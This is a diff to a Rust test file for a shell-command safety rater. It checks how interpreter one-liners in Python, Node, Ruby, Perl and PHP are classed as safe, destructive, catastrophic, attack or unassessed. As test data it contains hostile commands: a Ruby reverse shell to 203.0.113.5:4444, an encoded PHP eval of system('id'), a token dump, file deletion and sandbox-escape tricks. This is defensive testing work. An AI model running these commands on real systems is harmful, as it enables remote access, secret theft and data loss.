@@ -38,14 +38,14 @@ fn code_of_python_passes_only_where_every_name_is_known() {
             "safe",
         ),
         ("python3 -c \"import os; print(os.environ.get('HOME'), 'CI' in os.environ)\"", "safe"),
-        ("python -c \"import shutil; shutil.rmtree('build')\"", "not assessed"),
+        ("python -c \"import shutil; shutil.rmtree('build')\"", "destructive"),
         ("python3 -c \"import os; os.system('make deploy')\"", "destructive"),
         ("python -c \"import subprocess; subprocess.run(['git','push','-f'])\"", "destructive"),
         ("python3 -c \"open('/etc/motd','a').write('hi')\"", "destructive"),
         ("python -c \"import os; os.remove('data.db')\"", "destructive"),
         ("python3 -c \"exec(open('tool.txt').read())\"", "destructive"),
         ("python3 -c \"import os as o; x = o; x.remove('a')\"", "not assessed"),
-        ("python3 -c \"import glob; glob.os.remove('a')\"", "destructive"),
+        ("python3 -c \"import glob; glob.os.remove('a')\"", "not assessed"),
         ("python3 -c \"from os import *; system('id')\"", "destructive"),
         ("python3 -c \"f = open; f('x', 'w')\"", "not assessed"),
         ("python3 -c \"print(().__class__.__bases__[0].__subclasses__())\"", "destructive"),
@@ -114,7 +114,7 @@ fn code_of_javascript_passes_only_where_every_name_is_known() {
         ("node -e \"process.kill(4242)\"", "destructive"),
         ("node -e \"require('child_process').execSync('id')\"", "destructive"),
         ("node -e 'console.log(process.env)'", "destructive"),
-        ("node -e \"[].constructor.constructor('x')()\"", "not assessed"),
+        ("node -e \"[].constructor.constructor('x')()\"", "destructive"),
         ("node -e \"[]['map']['constructor']('x')()\"", "not assessed"),
         ("node -e \"const k='con'+'structor'; const f=[].at[k]; f('x')()\"", "not assessed"),
         ("node -e \"require('./lib/x.js')\"", "destructive"),
@@ -162,4 +162,89 @@ fn programs_of_interpreters_are_told_from_files_and_modules() {
         ("python manage.py flush --no-input", "catastrophic"),
         ("python3 -m venv /etc", "destructive"),
     ]);
+}
+
+#[test]
+fn code_of_ruby_perl_and_php_passes_only_where_every_name_is_known() {
+    outcomes(&[
+        ("ruby -e 'puts RUBY_VERSION'", "safe"),
+        ("ruby -rjson -e 'puts JSON.parse(File.read(\"a.json\")).keys'", "safe"),
+        ("ruby -e 'puts \"a#{1 + 1}\"'", "safe"),
+        ("perl -ne 'print if /ERROR/' app.log", "safe"),
+        ("perl -pi -e 's/foo/bar/g' src/a.txt", "safe"),
+        ("perl -lane 'print $F[0]' a.txt", "safe"),
+        ("perl -MJSON::PP -e 'print JSON::PP->VERSION'", "safe"),
+        ("php -r 'echo PHP_VERSION;'", "safe"),
+        ("php -l src/App.php", "safe"),
+        ("php artisan route:list", "safe"),
+        ("ruby -e 'system(\"make deploy\")'", "destructive"),
+        ("ruby -e '`id`'", "destructive"),
+        ("ruby -e 'p [1].each(&:instance_eval)'", "not assessed"),
+        ("perl -e 'unlink glob \"*.tmp\"'", "destructive"),
+        ("perl -e 's/x/system(1)/e'", "not assessed"),
+        ("perl -e 'print \"$h{system(1)}\"'", "not assessed"),
+        ("perl -e '@ARGV = (\"id|\"); print <>'", "not assessed"),
+        ("perl -ne print '|id'", "not assessed"),
+        ("perl -pi -e 's/a/b/' /etc/motd", "destructive"),
+        ("php -r 'unlink(\"storage/app/a.txt\");'", "destructive"),
+        ("php -r '$f=\"system\"; $f(\"id\");'", "not assessed"),
+        ("php -r 'array_map(\"system\",[1]);'", "not assessed"),
+        ("php artisan migrate:reset", "catastrophic"),
+        ("ruby -e 'puts ENV[\"GITHUB_TOKEN\"]'", "attack"),
+        ("php -r 'eval(base64_decode(\"c3lzdGVtKCdpZCcpOw==\"));'", "attack"),
+        (
+            "ruby -rsocket -e 's=TCPSocket.new(\"203.0.113.5\",4444);exec(\"/bin/sh\",in:s,out:s,err:s)'",
+            "attack",
+        ),
+    ]);
+}
+
+#[test]
+fn words_that_a_statement_hides_are_looked_at_all_the_same() {
+    outcomes(&[
+        ("node -e \"import.meta; require('child_process'); 'x'\"", "destructive"),
+        ("node -e \"import('fs').then(f => f.symlinkSync('a', '/etc/x'))\"", "not assessed"),
+        ("node -e \"[require('fs')].map(f => f.writeFile)\"", "not assessed"),
+        ("node -e \"x = require('fs'); x.copy('a')\"", "not assessed"),
+        ("node -e \"setTimeout('x()', 1)\"", "not assessed"),
+        ("python3 -c \"unlink = 1\nfrom pathlib import Path\nPath('x').unlink()\"", "destructive"),
+        ("python3 -c \"import sys; sys.path.insert(0, '/tmp/x'); import json\"", "not assessed"),
+        (
+            "python3 -c \"from pathlib import Path; (Path('src') / '../../.bashrc').write_text('x')\"",
+            "not assessed",
+        ),
+        ("python3 -c \"import sys; open(sys.argv[1], 'w').write('x')\" /etc/motd", "not assessed"),
+        ("python3 -c \"f(__builtins__=1); __builtins__['eval']('1')\"", "destructive"),
+        ("python3 -c \"import typing; typing.get_type_hints(1)\"", "not assessed"),
+        ("node -e \"import fs from 'fs'; fs.unlinkSync('a')\"", "destructive"),
+    ]);
+}
+
+#[test]
+fn hostile_code_is_not_assessed_and_takes_no_time() {
+    for (piece, program) in [
+        ("lambda z ", "python3 -c"),
+        ("for x ", "python3 -c"),
+        ("a.b.", "python3 -c"),
+        ("f'{f\"{", "python3 -c"),
+        ("x[y](( ", "node -e"),
+        ("function(a", "node -e"),
+        ("const {", "node -e"),
+        ("`${", "node -e"),
+        ("open((", "python3 -c"),
+        ("({[", "node -e"),
+        ("\"#{", "ruby -e"),
+    ] {
+        for length in [1_300, 20_000] {
+            let code = piece.repeat(length).replace('\'', "'\\''");
+            let command = format!("{program} '{code}'");
+            let verdict = crate::rater::builtin::judge(
+                &crate::shell::analyze(&command, crate::shell::Dialect::Bash),
+                Some("/work/project"),
+                None,
+            );
+            let harmless = verdict.outcome == crate::gate::Outcome::Safe;
+            assert!(!harmless, "{piece}");
+        }
+    }
 }
